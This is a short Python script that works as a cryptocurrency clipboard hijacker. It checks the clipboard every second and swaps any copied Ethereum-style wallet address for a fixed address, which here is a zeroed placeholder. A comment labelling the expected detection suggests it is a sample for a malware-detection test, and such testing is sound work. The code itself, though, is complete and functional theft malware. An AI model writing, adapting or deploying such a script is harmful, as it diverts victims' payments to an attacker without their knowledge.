import re
import time
import pyperclip

OWN = "0x00000000000000000000000000000000000000aa"
while True:
    copied = pyperclip.paste()
    if re.match("^0x[a-fA-F0-9]{40}$", copied) and copied != OWN:
        pyperclip.copy(OWN)  # expect: source/clipboard-hijack import conclusive
    time.sleep(1)
